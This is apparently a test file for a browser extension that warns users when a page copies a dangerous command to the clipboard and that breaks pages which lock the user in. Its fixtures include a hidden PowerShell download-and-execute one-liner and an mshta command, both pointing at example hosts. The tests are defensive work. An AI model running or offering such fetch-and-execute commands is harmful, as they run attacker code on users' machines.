// @vitest-environment node
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { browser } from 'wxt/browser';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { guardHandlers } from '@/utils/background/guards/guard-handlers';
import { createGuardedTabs } from '@/utils/background/guards/guarded-tabs';
import type { HandlerDeps, Origin } from '@/utils/background/wiring/deps';
import type { StoppedCommand } from '@/utils/guards/guard-messages';
import { GUARD_BREAK } from '@/utils/guards/guard-protocol';
import { DEFAULT_SETTINGS, type Settings } from '@/utils/settings/schema';

const injected: Array<[number, number, string]> = [];
vi.mock('@/utils/background/site/inject-page-ui', () => ({
  injectPageUi: async (tabId: number, frameId: number, part: string) => {
    injected.push([tabId, frameId, part]);
    return true;
  },
}));

const PAGE: Origin = {
  kind: 'content-script',
  sender: { id: browser.runtime.id, url: 'https://verify.example/', tab: { id: 7 } as never },
};
const POPUP: Origin = { kind: 'extension-page', sender: { id: browser.runtime.id } } as Origin;
const COMMAND: StoppedCommand = {
  text: 'powershell -w h -c "iex(irm https://check.example/a.ps1)"',
  how: 'writeText',
  shell: 'windows',
  why: 'instructions',
};

/** Handler deps with `settings` over the defaults and a guarded-tabs double that records. */
function depsWith(settings: Partial<Settings> = {}) {
  const calls: string[] = [];
  const deps = {
    state: async () => ({ settings: { ...DEFAULT_SETTINGS, ...settings } }),
    guardedTabs: {
      warn: async (tabId: number, warning: { kind: string; opened?: boolean }) => {
        calls.push(`warn ${tabId} ${warning.kind}${warning.opened ? ' opened' : ''}`);
        return true;
      },
      lock: async (tabId: number) => void calls.push(`lock ${tabId}`),
    },
  } as unknown as HandlerDeps;
  return { deps, calls };
}

beforeEach(() => {
  injected.length = 0;
});
afterEach(() => vi.restoreAllMocks());

describe('the page guards’ messages', () => {
  it('tell every frame which guards are on: both by default, each by its own switch', async () => {
    const on = await guardHandlers['guard:config']({ type: 'guard:config' }, PAGE, depsWith().deps);
    expect(on).toEqual({ ok: true, value: { clipboard: true, locks: true } });
    const off = await guardHandlers['guard:config'](
      { type: 'guard:config' },
      PAGE,
      depsWith({ guardClipboard: false, breakPageLocks: true }).deps,
    );
    expect(off).toEqual({ ok: true, value: { clipboard: false, locks: true } });
  });

  it('cover the sender’s tab with the warning for a stopped command, unless the switch is off', async () => {
    const on = depsWith();
    await expect(
      guardHandlers['guard:clipboard'](
        { type: 'guard:clipboard', command: COMMAND },
        PAGE,
        on.deps,
      ),
    ).resolves.toEqual({ ok: true, value: { warned: true } });
    expect(on.calls).toEqual(['warn 7 clipboard']);
    const off = depsWith({ guardClipboard: false });
    await expect(
      guardHandlers['guard:clipboard'](
        { type: 'guard:clipboard', command: COMMAND },
        PAGE,
        off.deps,
      ),
    ).resolves.toEqual({ ok: true, value: { warned: false } });
    expect(off.calls).toEqual([]);
  });

  it('say so when a window the page opened wrote the command and closed itself', async () => {
    const { deps, calls } = depsWith();
    await guardHandlers['guard:clipboard'](
      { type: 'guard:clipboard', command: COMMAND, opened: true },
      PAGE,
      deps,
    );
    expect(calls).toEqual(['warn 7 clipboard opened']);
  });

  it('lock the tab and warn for a page broken out of, unless the lock breaker is off', async () => {
    const message = { type: 'guard:lock' as const, techniques: ['dialogs' as const] };
    const on = depsWith();
    await guardHandlers['guard:lock'](message, PAGE, on.deps);
    expect(on.calls).toEqual(['lock 7', 'warn 7 lock']);
    const off = depsWith({ breakPageLocks: false });
    await guardHandlers['guard:lock'](message, PAGE, off.deps);
    expect(off.calls).toEqual([]);
  });

  it('come only from a page’s frame: from an extension page they do nothing', async () => {
    const { deps, calls } = depsWith();
    const clipboard = await guardHandlers['guard:clipboard'](
      { type: 'guard:clipboard', command: COMMAND },
      POPUP,
      deps,
    );
    const lock = await guardHandlers['guard:lock'](
      { type: 'guard:lock', techniques: ['history'] },
      POPUP,
      deps,
    );
    expect([clipboard.ok, lock.ok]).toEqual([false, false]);
    expect(calls).toEqual([]);
  });
});

describe('a guarded tab', () => {
  it('is warned once per page and command, in its top frame; again once it loads another page', async () => {
    const sent: unknown[] = [];
    vi.spyOn(browser.tabs, 'sendMessage').mockImplementation(async (tabId, message, options) => {
      sent.push([tabId, (message as { warning: { kind: string } }).warning.kind, options]);
    });
    const tabs = createGuardedTabs();
    const warning = { kind: 'clipboard' as const, command: COMMAND };
    expect(await tabs.warn(3, warning)).toBe(true);
    expect(await tabs.warn(3, warning)).toBe(true);
    expect(
      await tabs.warn(3, {
        ...warning,
        command: { ...COMMAND, text: 'mshta https://x.example/a.hta' },
      }),
    ).toBe(true);
    expect(injected).toEqual([
      [3, 0, 'guard'],
      [3, 0, 'guard'],
    ]);
    expect(sent).toEqual([
      [3, 'clipboard', { frameId: 0 }],
      [3, 'clipboard', { frameId: 0 }],
    ]);
    await fakeBrowser.tabs.onUpdated.trigger(3, { status: 'loading' }, {} as never);
    await tabs.warn(3, warning);
    expect(sent).toHaveLength(3);
  });

  it('broken out of is muted, every frame told, and its listeners called; the mute is lifted when it loads again', async () => {
    const updates: unknown[] = [];
    const messages: unknown[] = [];
    vi.spyOn(browser.tabs, 'get').mockResolvedValue({
      id: 5,
      mutedInfo: { muted: false },
    } as never);
    vi.spyOn(browser.tabs, 'update').mockImplementation(async (tabId, change) => {
      updates.push([tabId, change]);
      return {} as never;
    });
    vi.spyOn(browser.tabs, 'sendMessage').mockImplementation(async (tabId, message) => {
      messages.push([tabId, message]);
    });
    const tabs = createGuardedTabs();
    const heard: string[] = [];
    tabs.onLocked(5, () => heard.push('locked'));
    await tabs.lock(5);
    await tabs.lock(5);
    expect(tabs.isLocked(5)).toBe(true);
    expect(updates).toEqual([[5, { muted: true }]]);
    expect(messages).toEqual([[5, { type: GUARD_BREAK }]]);
    expect(heard).toEqual(['locked']);
    await fakeBrowser.tabs.onUpdated.trigger(5, { status: 'loading' }, {} as never);
    expect(updates).toEqual([
      [5, { muted: true }],
      [5, { muted: false }],
    ]);
    expect(tabs.isLocked(5)).toBe(false);
  });

  it('the person muted already is left muted when the page goes', async () => {
    const updates: unknown[] = [];
    vi.spyOn(browser.tabs, 'get').mockResolvedValue({ id: 6, mutedInfo: { muted: true } } as never);
    vi.spyOn(browser.tabs, 'update').mockImplementation(async (tabId, change) => {
      updates.push([tabId, change]);
      return {} as never;
    });
    vi.spyOn(browser.tabs, 'sendMessage').mockResolvedValue(undefined);
    const tabs = createGuardedTabs();
    await tabs.lock(6);
    await fakeBrowser.tabs.onRemoved.trigger(6, { windowId: 1, isWindowClosing: false });
    expect(updates).toEqual([]);
    expect(tabs.isLocked(6)).toBe(false);
  });
});
